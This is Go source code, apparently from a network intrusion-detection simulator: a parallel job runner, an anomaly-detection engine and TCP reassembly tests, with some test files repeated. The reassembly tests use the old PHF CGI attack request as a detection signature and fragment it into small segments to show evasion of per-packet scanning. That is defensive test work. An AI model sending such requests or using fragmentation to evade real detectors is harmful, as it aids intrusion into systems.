// sibling failures, and the per-index errors are all returned. This is
// the campaign runner's discipline — one failed experiment must not
// cancel the rest of a sweep — where ForEach's fail-fast is the right
// call inside a single experiment whose partial output is worthless.
//
// Cancellation of ctx is still honoured: jobs not yet claimed when ctx
// is cancelled are skipped with ctx.Err() recorded in their slot, and
// jobs already running are allowed to finish (graceful drain). All
// worker goroutines have exited by the time ForEachAll returns.
func ForEachAll(ctx context.Context, n, workers int, fn func(ctx context.Context, i int) error) []error {
	if n <= 0 {
		return nil
	}
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	if workers > n {
		workers = n
	}
	errs := make([]error, n)
	var next atomic.Int64
	run := func() {
		for {
			i := int(next.Add(1) - 1)
			if i >= n {
				return
			}
			if err := ctx.Err(); err != nil {
				errs[i] = err
				continue
			}
			errs[i] = fn(ctx, i)
		}
	}
	if workers == 1 {
		run()
	} else {
		var wg sync.WaitGroup
		wg.Add(workers)
		for w := 0; w < workers; w++ {
			go func() {
				defer wg.Done()
				run()
			}()
		}
		wg.Wait()
	}
	return errs
}

// heartbeatKey carries a liveness callback through a context (see
// WithHeartbeat).
type heartbeatKey struct{}

// WithHeartbeat attaches beat to ctx. Long-running work executed under
// the returned context calls the beat function (via HeartbeatFrom) at
// natural progress points — the simulation kernel's interrupt stride —
// so an external watchdog can distinguish slow-but-progressing work
// from a wedged experiment.
func WithHeartbeat(ctx context.Context, beat func()) context.Context {
	return context.WithValue(ctx, heartbeatKey{}, beat)
}

// HeartbeatFrom extracts the heartbeat callback attached by
// WithHeartbeat, or nil when ctx carries none.
func HeartbeatFrom(ctx context.Context) func() {
	beat, _ := ctx.Value(heartbeatKey{}).(func())
	return beat
}
