package par

import (
	"context"
	"errors"
	"runtime"
	"sync/atomic"
	"testing"
	"time"
)

func TestForEachRunsAllJobs(t *testing.T) {
	for _, workers := range []int{0, 1, 3, 64} {
		hit := make([]atomic.Int32, 50)
		err := ForEach(context.Background(), len(hit), workers, func(ctx context.Context, i int) error {
			hit[i].Add(1)
			return nil
		})
		if err != nil {
			t.Fatalf("workers=%d: unexpected error: %v", workers, err)
		}
		for i := range hit {
			if got := hit[i].Load(); got != 1 {
				t.Fatalf("workers=%d: job %d ran %d times", workers, i, got)
			}
		}
	}
}

func TestForEachZeroJobs(t *testing.T) {
	if err := ForEach(context.Background(), 0, 4, func(context.Context, int) error {
		t.Fatal("fn called for n=0")
		return nil
	}); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestForEachLowestIndexedErrorWins(t *testing.T) {
	errLow := errors.New("low")
	errHigh := errors.New("high")
	// Both jobs fail on every schedule; the surfaced error must always be
	// the lowest-indexed one regardless of completion order.
	for trial := 0; trial < 20; trial++ {
		err := ForEach(context.Background(), 8, 8, func(ctx context.Context, i int) error {
			switch i {
			case 2:
				return errLow
			case 7:
				return errHigh
			}
			return nil
		})
		if !errors.Is(err, errLow) {
			t.Fatalf("trial %d: got %v, want %v", trial, err, errLow)
		}
	}
}

func TestForEachFailFastSkipsRemaining(t *testing.T) {
	boom := errors.New("boom")
	var ran atomic.Int32
	// Serial pool: job 0 fails, so jobs 1..99 must be skipped.
	err := ForEach(context.Background(), 100, 1, func(ctx context.Context, i int) error {
		ran.Add(1)
		if i == 0 {
			return boom
		}
		return nil
	})
	if !errors.Is(err, boom) {
		t.Fatalf("got %v, want %v", err, boom)
	}
	if got := ran.Load(); got != 1 {
		t.Fatalf("ran %d jobs after failure, want 1", got)
	}
}

func TestForEachParentCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := ForEach(ctx, 10, 4, func(ctx context.Context, i int) error {
		t.Fatalf("job %d ran under cancelled parent", i)
		return nil
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want context.Canceled", err)
	}
}

// goroutineCount samples runtime.NumGoroutine after a settling GC so
// short-lived runtime goroutines don't pollute the leak check.
func goroutineCount() int {
	runtime.GC()
	return runtime.NumGoroutine()
}

// TestForEachLeakFree pins the cleanup contract: whether a run
// completes, fails fast, or is cancelled mid-flight, every worker
// goroutine has exited by the time ForEach/ForEachAll return.
func TestForEachLeakFree(t *testing.T) {
	before := goroutineCount()
	boom := errors.New("boom")
	for trial := 0; trial < 50; trial++ {
		_ = ForEach(context.Background(), 64, 8, func(ctx context.Context, i int) error {
			if i == 13 {
				return boom
			}
			return nil
		})
		_ = ForEachAll(context.Background(), 64, 8, func(ctx context.Context, i int) error {
			if i%7 == 0 {
				return boom
			}
			return nil
		})
		ctx, cancel := context.WithCancel(context.Background())
		_ = ForEach(ctx, 64, 8, func(ctx context.Context, i int) error {
			if i == 4 {
				cancel()
			}
			return nil
		})
		cancel()
	}
	// Allow any stragglers a moment, then compare. A small tolerance
	// absorbs unrelated runtime goroutines; a real leak here is O(trials).
	deadline := time.Now().Add(2 * time.Second)
	for {
		after := goroutineCount()
		if after <= before+3 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines leaked: %d before, %d after", before, after)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestForEachCancellationSkipsQueued pins fail-fast cancellation: once
// a worker returns an error, queued jobs that have not started are
// skipped rather than run.
func TestForEachCancellationSkipsQueued(t *testing.T) {
	boom := errors.New("boom")
	var started atomic.Int32
	gate := make(chan struct{})
	err := ForEach(context.Background(), 100, 2, func(ctx context.Context, i int) error {
		started.Add(1)
		if i == 0 {
			// Fail while worker 2 is blocked on the gate, so the failure
			// lands before the queue drains.
			close(gate)
			return boom
		}
		if i == 1 {
			<-gate
			<-ctx.Done() // observe the cancellation fan-out
		}
		return nil
	})
	if !errors.Is(err, boom) {
		t.Fatalf("got %v, want %v", err, boom)
	}
	if got := started.Load(); got > 4 {
		t.Fatalf("%d jobs started after failure; queued work was not skipped", got)
	}
}

func TestForEachAllRunsEverythingDespiteFailures(t *testing.T) {
	boom := errors.New("boom")
	var ran atomic.Int32
	errs := ForEachAll(context.Background(), 50, 4, func(ctx context.Context, i int) error {
		ran.Add(1)
		if i%3 == 0 {
			return boom
		}
		return nil
	})
	if got := ran.Load(); got != 50 {
		t.Fatalf("ran %d of 50 jobs; failures must not cancel siblings", got)
	}
	for i, err := range errs {
		want := i%3 == 0
		if (err != nil) != want {
			t.Fatalf("job %d: err=%v, want failure=%v", i, err, want)
		}
	}
}

func TestForEachAllDrainsOnCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var ran atomic.Int32
	errs := ForEachAll(ctx, 100, 1, func(ctx context.Context, i int) error {
		ran.Add(1)
		if i == 9 {
			cancel()
		}
		return nil
	})
	defer cancel()
	if got := ran.Load(); got != 10 {
		t.Fatalf("ran %d jobs, want exactly 10 before the cancellation point", got)
	}
	for i, err := range errs {
		if i < 10 && err != nil {
			t.Fatalf("completed job %d reported %v", i, err)
		}
		if i >= 10 && !errors.Is(err, context.Canceled) {
			t.Fatalf("skipped job %d: err=%v, want context.Canceled", i, err)
		}
	}
}

func TestHeartbeatRoundTrip(t *testing.T) {
	if HeartbeatFrom(context.Background()) != nil {
		t.Fatal("background context should carry no heartbeat")
	}
	var beats atomic.Int32
	ctx := WithHeartbeat(context.Background(), func() { beats.Add(1) })
	beat := HeartbeatFrom(ctx)
	if beat == nil {
		t.Fatal("heartbeat lost in round trip")
	}
	beat()
	beat()
	if got := beats.Load(); got != 2 {
		t.Fatalf("beats=%d, want 2", got)
	}
}
