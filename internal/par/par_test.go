package par

import (
	"context"
	"errors"
	"sync/atomic"
	"testing"
)

func TestForEachRunsAllJobs(t *testing.T) {
	for _, workers := range []int{0, 1, 3, 64} {
		hit := make([]atomic.Int32, 50)
		err := ForEach(context.Background(), len(hit), workers, func(ctx context.Context, i int) error {
			hit[i].Add(1)
			return nil
		})
		if err != nil {
			t.Fatalf("workers=%d: unexpected error: %v", workers, err)
		}
		for i := range hit {
			if got := hit[i].Load(); got != 1 {
				t.Fatalf("workers=%d: job %d ran %d times", workers, i, got)
			}
		}
	}
}

func TestForEachZeroJobs(t *testing.T) {
	if err := ForEach(context.Background(), 0, 4, func(context.Context, int) error {
		t.Fatal("fn called for n=0")
		return nil
	}); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestForEachLowestIndexedErrorWins(t *testing.T) {
	errLow := errors.New("low")
	errHigh := errors.New("high")
	// Both jobs fail on every schedule; the surfaced error must always be
	// the lowest-indexed one regardless of completion order.
	for trial := 0; trial < 20; trial++ {
		err := ForEach(context.Background(), 8, 8, func(ctx context.Context, i int) error {
			switch i {
			case 2:
				return errLow
			case 7:
				return errHigh
			}
			return nil
		})
		if !errors.Is(err, errLow) {
			t.Fatalf("trial %d: got %v, want %v", trial, err, errLow)
		}
	}
}

func TestForEachFailFastSkipsRemaining(t *testing.T) {
	boom := errors.New("boom")
	var ran atomic.Int32
	// Serial pool: job 0 fails, so jobs 1..99 must be skipped.
	err := ForEach(context.Background(), 100, 1, func(ctx context.Context, i int) error {
		ran.Add(1)
		if i == 0 {
			return boom
		}
		return nil
	})
	if !errors.Is(err, boom) {
		t.Fatalf("got %v, want %v", err, boom)
	}
	if got := ran.Load(); got != 1 {
		t.Fatalf("ran %d jobs after failure, want 1", got)
	}
}

func TestForEachParentCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := ForEach(ctx, 10, 4, func(ctx context.Context, i int) error {
		t.Fatalf("job %d ran under cancelled parent", i)
		return nil
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want context.Canceled", err)
	}
}
