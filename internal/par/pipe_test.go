package par

import (
	"errors"
	"io"
	"sync/atomic"
	"testing"
	"time"
)

func TestPipeDeliversInOrder(t *testing.T) {
	n := 0
	p := NewPipe(3, func() (int, error) {
		n++
		if n > 5 {
			return 0, io.EOF
		}
		return n, nil
	})
	for want := 1; want <= 5; want++ {
		v, err := p.Next()
		if err != nil {
			t.Fatalf("value %d: %v", want, err)
		}
		if v != want {
			t.Fatalf("got %d, want %d", v, want)
		}
	}
	if _, err := p.Next(); err != io.EOF {
		t.Fatalf("got %v, want EOF", err)
	}
	// Terminal error is sticky.
	if _, err := p.Next(); err != io.EOF {
		t.Fatalf("repeat Next: got %v, want EOF", err)
	}
}

func TestPipeErrorAfterValues(t *testing.T) {
	boom := errors.New("boom")
	n := 0
	p := NewPipe(1, func() (int, error) {
		n++
		if n == 3 {
			return 0, boom
		}
		return n, nil
	})
	for want := 1; want <= 2; want++ {
		v, err := p.Next()
		if err != nil || v != want {
			t.Fatalf("value %d: got %d, %v", want, v, err)
		}
	}
	if _, err := p.Next(); err != boom {
		t.Fatalf("got %v, want boom", err)
	}
	if _, err := p.Next(); err != boom {
		t.Fatalf("sticky: got %v, want boom", err)
	}
	if n != 3 {
		t.Fatalf("producer called %d times, want 3 (stopped at error)", n)
	}
}

func TestPipeStopUnblocksProducer(t *testing.T) {
	var calls atomic.Int64
	p := NewPipe(1, func() (int, error) {
		return int(calls.Add(1)), nil
	})
	// Let the producer fill its buffer and block on the channel send.
	if _, err := p.Next(); err != nil {
		t.Fatal(err)
	}
	p.Stop()
	p.Stop() // idempotent
	// The worker must exit: the call count settles. Allow the in-flight
	// produce to finish first.
	deadline := time.Now().Add(2 * time.Second)
	for {
		before := calls.Load()
		time.Sleep(20 * time.Millisecond)
		if calls.Load() == before {
			return
		}
		if time.Now().After(deadline) {
			t.Fatal("producer kept running after Stop")
		}
	}
}

func TestPipeStoppedPipeReturnsEOF(t *testing.T) {
	p := NewPipe(1, func() (int, error) {
		time.Sleep(time.Millisecond)
		return 1, nil
	})
	p.Stop()
	// Drain whatever was buffered before the stop landed; the channel
	// closes and Next settles on EOF.
	for i := 0; i < 10; i++ {
		if _, err := p.Next(); err == io.EOF {
			return
		}
	}
	t.Fatal("Next never returned EOF after Stop")
}

func TestPipeDepthClamp(t *testing.T) {
	p := NewPipe(0, func() (int, error) { return 0, io.EOF })
	if _, err := p.Next(); err != io.EOF {
		t.Fatalf("got %v, want EOF", err)
	}
}
