package detect

import (
	"fmt"
	"math"
	"time"

	"repro/internal/packet"
)

// welford is an online mean/variance accumulator.
type welford struct {
	n    uint64
	mean float64
	m2   float64
}

func (w *welford) add(x float64) {
	w.n++
	d := x - w.mean
	w.mean += d / float64(w.n)
	w.m2 += d * (x - w.mean)
}

func (w *welford) std() float64 {
	if w.n < 2 {
		return 0
	}
	return math.Sqrt(w.m2 / float64(w.n-1))
}

// z returns the z-score of x, guarding degenerate variance with a floor
// so constant-valued baselines still measure deviation meaningfully.
func (w *welford) z(x float64, floor float64) float64 {
	if w.n < 2 {
		return 0
	}
	s := w.std()
	if s < floor {
		s = floor
	}
	return math.Abs(x-w.mean) / s
}

// serviceProfile is the learned behaviour of one (dstPort, proto) service.
type serviceProfile struct {
	payloadLen welford
	entropy    welford
	packets    uint64
}

// AnomalyEngine is a behaviour detector: it learns a baseline of "normal"
// traffic during training and scores deviations afterwards. Section 2.1
// notes a "constrained application environment may help constrain the
// definition of normal behavior making anomaly-based systems more
// appropriate" for real-time clusters — the effect the harness's
// cluster-profile runs demonstrate.
type AnomalyEngine struct {
	services map[uint32]*serviceProfile // key: port<<8|proto
	pairs    map[uint64]bool            // (src,dst,dstPort) triples seen in training
	// srcRate learns per-source peak packet rates during training.
	srcRate      map[packet.Addr]*rateTracker
	trainedPeak  float64 // highest per-source pps seen in training
	trainPackets uint64

	sensitivity float64
	suppress    map[anomalySuppressKey]time.Duration
	// SuppressWindow is the per-(cause,pair) alert holdoff.
	SuppressWindow time.Duration
	// lastPrune amortizes the sweep of expired suppress entries (same
	// long-replay leak as the signature engine's maps).
	lastPrune time.Duration
	// MinServiceSamples gates z-score alerts until a service baseline has
	// enough observations to be meaningful.
	MinServiceSamples uint64

	// Inspected counts packets analyzed after training.
	Inspected uint64
}

// anomalyCause enumerates the engine's alert causes; using it in the
// suppress key instead of a formatted string keeps raise() off the
// allocator.
type anomalyCause uint8

const (
	causeContent anomalyCause = iota
	causeNewService
	causePair
	causeRate
)

// anomalySuppressKey identifies one (cause, src, dst) alert stream.
type anomalySuppressKey struct {
	cause    anomalyCause
	src, dst packet.Addr
}

// rateTracker counts packets in tumbling one-second windows.
type rateTracker struct {
	windowStart time.Duration
	count       int
	peak        int
}

func (r *rateTracker) observe(now time.Duration) int {
	if now-r.windowStart > time.Second {
		if r.count > r.peak {
			r.peak = r.count
		}
		r.windowStart = now
		r.count = 0
	}
	r.count++
	return r.count
}

// NewAnomalyEngine creates an untrained engine at sensitivity 0.5.
func NewAnomalyEngine() *AnomalyEngine {
	return &AnomalyEngine{
		services:          make(map[uint32]*serviceProfile),
		pairs:             make(map[uint64]bool),
		srcRate:           make(map[packet.Addr]*rateTracker),
		sensitivity:       0.5,
		suppress:          make(map[anomalySuppressKey]time.Duration),
		SuppressWindow:    2 * time.Second,
		MinServiceSamples: 30,
	}
}

// Name implements Engine.
func (e *AnomalyEngine) Name() string { return "anomaly" }

// Mechanism implements Engine.
func (e *AnomalyEngine) Mechanism() Mechanism { return MechanismAnomaly }

// SetSensitivity implements Engine.
func (e *AnomalyEngine) SetSensitivity(s float64) error {
	v, err := clampSensitivity(s)
	if err != nil {
		return err
	}
	e.sensitivity = v
	return nil
}

// Sensitivity implements Engine.
func (e *AnomalyEngine) Sensitivity() float64 { return e.sensitivity }

// CostPerPacket implements Engine: fixed feature extraction plus a cheap
// per-byte entropy pass.
func (e *AnomalyEngine) CostPerPacket(p *packet.Packet) time.Duration {
	return 4*time.Microsecond + time.Duration(len(p.Payload))*2*time.Nanosecond
}

// servicePort identifies the service side of a conversation: the smaller
// port number (well-known/registered services sit below the ephemeral
// range). Keying profiles this way makes both directions of a session —
// including server responses to ephemeral client ports — accrue to one
// service baseline instead of each response looking like a novel service.
func servicePort(p *packet.Packet) uint16 {
	if p.SrcPort != 0 && p.SrcPort < p.DstPort {
		return p.SrcPort
	}
	return p.DstPort
}

func serviceKey(p *packet.Packet) uint32 {
	return uint32(servicePort(p))<<8 | uint32(p.Proto)
}

func pairKey(p *packet.Packet) uint64 {
	k := p.Key().Canonical()
	return uint64(k.Src)<<32 ^ uint64(k.Dst)<<8 ^ uint64(servicePort(p))
}

// TrainedPackets returns how many benign packets built the baseline.
func (e *AnomalyEngine) TrainedPackets() uint64 { return e.trainPackets }

// Train implements Engine: fold one known-benign packet into the
// baseline.
func (e *AnomalyEngine) Train(p *packet.Packet, now time.Duration) {
	e.trainPackets++
	sk := serviceKey(p)
	sp, ok := e.services[sk]
	if !ok {
		sp = &serviceProfile{}
		e.services[sk] = sp
	}
	sp.packets++
	if len(p.Payload) > 0 {
		sp.payloadLen.add(float64(len(p.Payload)))
		if len(p.Payload) >= 64 {
			// Mirror the inspection-side gate: entropy baselines are
			// built only from payloads large enough to estimate it.
			sp.entropy.add(Entropy(p.Payload))
		}
	}
	e.pairs[pairKey(p)] = true
	rt, ok := e.srcRate[p.Src]
	if !ok {
		rt = &rateTracker{windowStart: now}
		e.srcRate[p.Src] = rt
	}
	rt.observe(now)
	if float64(rt.count) > e.trainedPeak {
		e.trainedPeak = float64(rt.count)
	}
}

// zThreshold is the sensitivity-scaled z-score alarm level: 6σ at
// sensitivity 0 down to 2σ at sensitivity 1.
func (e *AnomalyEngine) zThreshold() float64 { return 6 - 4*e.sensitivity }

// rateFactorThreshold is the multiple of the trained per-source peak rate
// that triggers a rate alert: 8x at sensitivity 0 down to 1.5x at 1.
func (e *AnomalyEngine) rateFactorThreshold() float64 { return 8 - 6.5*e.sensitivity }

// noveltyEnabled gates pure never-seen-before alerts, which are only
// tolerable in constrained environments; they switch on at sensitivity
// 0.35 and above.
func (e *AnomalyEngine) noveltyEnabled() bool { return e.sensitivity >= 0.35 }

func (e *AnomalyEngine) suppressed(key anomalySuppressKey, now time.Duration) bool {
	if last, ok := e.suppress[key]; ok && now-last < e.SuppressWindow {
		return true
	}
	e.suppress[key] = now
	return false
}

// maybePrune drops suppress entries the holdoff check would already
// treat as expired, at most once per suppress window.
func (e *AnomalyEngine) maybePrune(now time.Duration) {
	if now-e.lastPrune < e.SuppressWindow {
		return
	}
	e.lastPrune = now
	for key, last := range e.suppress {
		if now-last >= e.SuppressWindow {
			delete(e.suppress, key)
		}
	}
}

// Inspect implements Engine.
func (e *AnomalyEngine) Inspect(p *packet.Packet, now time.Duration) []Alert {
	e.Inspected++
	e.maybePrune(now)
	var alerts []Alert
	raise := func(cause anomalyCause, technique string, severity float64, reason string) {
		if e.suppressed(anomalySuppressKey{cause: cause, src: p.Src, dst: p.Dst}, now) {
			return
		}
		alerts = append(alerts, Alert{
			At: now, Technique: technique, Severity: severity,
			Attacker: p.Src, Victim: p.Dst, Flow: p.Key(),
			Reason: reason, Engine: e.Name(),
		})
	}

	// Content deviation: payload length and entropy against the service
	// baseline.
	if len(p.Payload) > 0 {
		if sp, ok := e.services[serviceKey(p)]; ok && sp.packets >= e.MinServiceSamples {
			zl := sp.payloadLen.z(float64(len(p.Payload)), 8)
			// Shannon entropy over a handful of bytes is statistically
			// meaningless; tiny payloads (protocol tails, ACK piggybacks)
			// are judged on length only.
			ze := 0.0
			if len(p.Payload) >= 64 {
				ze = sp.entropy.z(Entropy(p.Payload), 0.25)
			}
			zt := e.zThreshold()
			if zl > zt || ze > zt {
				z := math.Max(zl, ze)
				raise(causeContent, "content-anomaly",
					math.Min(1, z/(2*zt)+0.4),
					fmt.Sprintf("payload deviates from service baseline (len z=%.1f, entropy z=%.1f)", zl, ze))
			}
		} else if e.noveltyEnabled() && !ok {
			raise(causeNewService, "novel-service", 0.5,
				fmt.Sprintf("no baseline for service port %d/%v", servicePort(p), p.Proto))
		}
	}

	// Pair novelty: a host pair+service never seen in training.
	if e.noveltyEnabled() && !e.pairs[pairKey(p)] {
		raise(causePair, "novel-service", 0.45,
			fmt.Sprintf("first contact %v -> %v service %d", p.Src, p.Dst, servicePort(p)))
	}

	// Rate anomaly: source exceeding a multiple of the trained peak.
	rt, ok := e.srcRate[p.Src]
	if !ok {
		rt = &rateTracker{windowStart: now}
		e.srcRate[p.Src] = rt
	}
	cur := float64(rt.observe(now))
	base := e.trainedPeak
	if base < 10 {
		base = 10
	}
	if cur > base*e.rateFactorThreshold() {
		raise(causeRate, "rate-anomaly",
			math.Min(1, cur/(base*e.rateFactorThreshold())/2+0.4),
			fmt.Sprintf("source rate %.0f pps exceeds %.1fx trained peak %.0f", cur, e.rateFactorThreshold(), e.trainedPeak))
		// Reset the tumbling window so a sustained flood re-alerts once
		// per suppression window, not per packet.
		rt.windowStart = now
		rt.count = 0
	}
	return alerts
}
