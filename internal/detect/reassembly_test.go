package detect

import (
	"testing"
	"time"

	"repro/internal/packet"
)

func segPkt(flowPort uint16, flags packet.TCPFlags, payload string) *packet.Packet {
	return &packet.Packet{
		Src: packet.IPv4(203, 0, 1, 1), Dst: packet.IPv4(10, 1, 1, 1),
		SrcPort: flowPort, DstPort: 80, Proto: packet.ProtoTCP,
		Flags: flags, Payload: []byte(payload),
	}
}

func TestReassemblerJoinsAcrossSegments(t *testing.T) {
	r := NewReassembler(10)
	a := r.Extend(segPkt(1000, packet.ACK, "cgi-b"))
	if string(a) != "cgi-b" {
		t.Fatalf("first segment = %q", a)
	}
	b := r.Extend(segPkt(1000, packet.ACK, "in/phf?x"))
	if string(b) != "cgi-bin/phf?x" {
		t.Fatalf("joined = %q", b)
	}
}

func TestReassemblerFlowIsolation(t *testing.T) {
	r := NewReassembler(10)
	r.Extend(segPkt(1000, packet.ACK, "cgi-b"))
	other := r.Extend(segPkt(2000, packet.ACK, "in/phf"))
	if string(other) != "in/phf" {
		t.Fatalf("cross-flow contamination: %q", other)
	}
}

func TestReassemblerTailBounded(t *testing.T) {
	r := NewReassembler(4)
	r.Extend(segPkt(1000, packet.ACK, "0123456789"))
	joined := r.Extend(segPkt(1000, packet.ACK, "AB"))
	if string(joined) != "6789AB" {
		t.Fatalf("joined = %q, want tail-limited prefix", joined)
	}
}

func TestReassemblerFINReleasesFlow(t *testing.T) {
	r := NewReassembler(8)
	r.Extend(segPkt(1000, packet.ACK, "abc"))
	if r.FlowCount() != 1 {
		t.Fatalf("FlowCount = %d", r.FlowCount())
	}
	r.Extend(segPkt(1000, packet.FIN|packet.ACK, "end"))
	if r.FlowCount() != 0 {
		t.Fatalf("FIN did not release flow: %d", r.FlowCount())
	}
}

func TestReassemblerIgnoresNonTCPAndEmpty(t *testing.T) {
	r := NewReassembler(8)
	udp := &packet.Packet{Proto: packet.ProtoUDP, Payload: []byte("xy")}
	if got := r.Extend(udp); string(got) != "xy" {
		t.Fatal("UDP payload altered")
	}
	empty := segPkt(1000, packet.ACK, "")
	if got := r.Extend(empty); len(got) != 0 {
		t.Fatal("empty payload altered")
	}
	if r.FlowCount() != 0 {
		t.Fatal("stateless packets created flows")
	}
}

func TestReassemblerCapEviction(t *testing.T) {
	r := NewReassembler(8)
	r.MaxFlows = 4
	for i := 0; i < 10; i++ {
		r.Extend(segPkt(uint16(1000+i), packet.ACK, "abc"))
	}
	if r.FlowCount() > 5 {
		t.Fatalf("FlowCount = %d exceeds cap behaviour", r.FlowCount())
	}
}

// The headline behaviour: a per-packet scanner misses a signature split
// across segments; the reassembling scanner catches it.
func TestEvasionDefeatedByReassembly(t *testing.T) {
	sig := "GET /cgi-bin/phf?Qalias=x HTTP/1.0\r\n\r\n"
	frags := []string{}
	for off := 0; off < len(sig); off += 7 {
		end := off + 7
		if end > len(sig) {
			end = len(sig)
		}
		frags = append(frags, sig[off:end])
	}

	run := func(e *SignatureEngine) int {
		alerts := 0
		now := time.Duration(0)
		for _, f := range frags {
			alerts += len(e.Inspect(segPkt(1234, packet.ACK, f), now))
			now += time.Millisecond
		}
		return alerts
	}
	perPacket := NewStandardSignatureEngine()
	perPacket.SetSensitivity(0.5)
	if got := run(perPacket); got != 0 {
		t.Fatalf("per-packet scanner alerted %d times on fragmented signature", got)
	}
	reassembling := NewReassemblingSignatureEngine()
	reassembling.SetSensitivity(0.5)
	if got := run(reassembling); got == 0 {
		t.Fatal("reassembling scanner missed the fragmented signature")
	}
}

func TestReassemblyCostsMore(t *testing.T) {
	plain := NewStandardSignatureEngine()
	re := NewReassemblingSignatureEngine()
	p := segPkt(1, packet.ACK, "hello")
	if re.CostPerPacket(p) <= plain.CostPerPacket(p) {
		t.Fatal("reassembly should cost more per packet")
	}
	if !re.Reassembling() || plain.Reassembling() {
		t.Fatal("Reassembling() flags wrong")
	}
}

func TestStealthySingleByteFragments(t *testing.T) {
	// Even 1-byte segments cannot evade the reassembling scanner.
	e := NewReassemblingSignatureEngine()
	e.SetSensitivity(0.5)
	sig := "cgi-bin/phf"
	alerts := 0
	for i := 0; i < len(sig); i++ {
		alerts += len(e.Inspect(segPkt(99, packet.ACK, string(sig[i])), time.Duration(i)*time.Millisecond))
	}
	if alerts == 0 {
		t.Fatal("single-byte fragmentation evaded reassembly")
	}
}
