package detect

import (
	"reflect"
	"testing"
	"time"

	"repro/internal/packet"
)

func segPkt(flowPort uint16, flags packet.TCPFlags, payload string) *packet.Packet {
	return &packet.Packet{
		Src: packet.IPv4(203, 0, 1, 1), Dst: packet.IPv4(10, 1, 1, 1),
		SrcPort: flowPort, DstPort: 80, Proto: packet.ProtoTCP,
		Flags: flags, Payload: []byte(payload),
	}
}

func TestReassemblerJoinsAcrossSegments(t *testing.T) {
	r := NewReassembler(10)
	a := r.Extend(segPkt(1000, packet.ACK, "cgi-b"))
	if string(a) != "cgi-b" {
		t.Fatalf("first segment = %q", a)
	}
	b := r.Extend(segPkt(1000, packet.ACK, "in/phf?x"))
	if string(b) != "cgi-bin/phf?x" {
		t.Fatalf("joined = %q", b)
	}
}

func TestReassemblerFlowIsolation(t *testing.T) {
	r := NewReassembler(10)
	r.Extend(segPkt(1000, packet.ACK, "cgi-b"))
	other := r.Extend(segPkt(2000, packet.ACK, "in/phf"))
	if string(other) != "in/phf" {
		t.Fatalf("cross-flow contamination: %q", other)
	}
}

func TestReassemblerTailBounded(t *testing.T) {
	r := NewReassembler(4)
	r.Extend(segPkt(1000, packet.ACK, "0123456789"))
	joined := r.Extend(segPkt(1000, packet.ACK, "AB"))
	if string(joined) != "6789AB" {
		t.Fatalf("joined = %q, want tail-limited prefix", joined)
	}
}

func TestReassemblerFINReleasesFlow(t *testing.T) {
	r := NewReassembler(8)
	r.Extend(segPkt(1000, packet.ACK, "abc"))
	if r.FlowCount() != 1 {
		t.Fatalf("FlowCount = %d", r.FlowCount())
	}
	r.Extend(segPkt(1000, packet.FIN|packet.ACK, "end"))
	if r.FlowCount() != 0 {
		t.Fatalf("FIN did not release flow: %d", r.FlowCount())
	}
}

func TestReassemblerIgnoresNonTCPAndEmpty(t *testing.T) {
	r := NewReassembler(8)
	udp := &packet.Packet{Proto: packet.ProtoUDP, Payload: []byte("xy")}
	if got := r.Extend(udp); string(got) != "xy" {
		t.Fatal("UDP payload altered")
	}
	empty := segPkt(1000, packet.ACK, "")
	if got := r.Extend(empty); len(got) != 0 {
		t.Fatal("empty payload altered")
	}
	if r.FlowCount() != 0 {
		t.Fatal("stateless packets created flows")
	}
}

func TestReassemblerCapEviction(t *testing.T) {
	r := NewReassembler(8)
	r.MaxFlows = 4
	for i := 0; i < 10; i++ {
		r.Extend(segPkt(uint16(1000+i), packet.ACK, "abc"))
	}
	if r.FlowCount() > 5 {
		t.Fatalf("FlowCount = %d exceeds cap behaviour", r.FlowCount())
	}
}

// The headline behaviour: a per-packet scanner misses a signature split
// across segments; the reassembling scanner catches it.
func TestEvasionDefeatedByReassembly(t *testing.T) {
	sig := "GET /cgi-bin/phf?Qalias=x HTTP/1.0\r\n\r\n"
	frags := []string{}
	for off := 0; off < len(sig); off += 7 {
		end := off + 7
		if end > len(sig) {
			end = len(sig)
		}
		frags = append(frags, sig[off:end])
	}

	run := func(e *SignatureEngine) int {
		alerts := 0
		now := time.Duration(0)
		for _, f := range frags {
			alerts += len(e.Inspect(segPkt(1234, packet.ACK, f), now))
			now += time.Millisecond
		}
		return alerts
	}
	perPacket := NewStandardSignatureEngine()
	perPacket.SetSensitivity(0.5)
	if got := run(perPacket); got != 0 {
		t.Fatalf("per-packet scanner alerted %d times on fragmented signature", got)
	}
	reassembling := NewReassemblingSignatureEngine()
	reassembling.SetSensitivity(0.5)
	if got := run(reassembling); got == 0 {
		t.Fatal("reassembling scanner missed the fragmented signature")
	}
}

func TestReassemblyCostsMore(t *testing.T) {
	plain := NewStandardSignatureEngine()
	re := NewReassemblingSignatureEngine()
	p := segPkt(1, packet.ACK, "hello")
	if re.CostPerPacket(p) <= plain.CostPerPacket(p) {
		t.Fatal("reassembly should cost more per packet")
	}
	if !re.Reassembling() || plain.Reassembling() {
		t.Fatal("Reassembling() flags wrong")
	}
}

func TestStealthySingleByteFragments(t *testing.T) {
	// Even 1-byte segments cannot evade the reassembling scanner.
	e := NewReassemblingSignatureEngine()
	e.SetSensitivity(0.5)
	sig := "cgi-bin/phf"
	alerts := 0
	for i := 0; i < len(sig); i++ {
		alerts += len(e.Inspect(segPkt(99, packet.ACK, string(sig[i])), time.Duration(i)*time.Millisecond))
	}
	if alerts == 0 {
		t.Fatal("single-byte fragmentation evaded reassembly")
	}
}

// --- Batching interaction -------------------------------------------------
//
// The batched-scan contract (Prescanning) says batch boundaries can never
// change alert output, and that a reassembling engine must refuse to
// prescan at all: reassembly makes the scan input depend on mutable
// per-flow state, so its scans are not pure.

// feedOneBatch drives an engine the way a sensor with a deep queue does:
// one PrescanBatch over every payload, then per-packet inspection against
// the memoized match sets (falling back to scalar Inspect if the engine
// refuses the prescan).
func feedOneBatch(e *SignatureEngine, pkts []*packet.Packet) []Alert {
	payloads := make([][]byte, len(pkts))
	for i, p := range pkts {
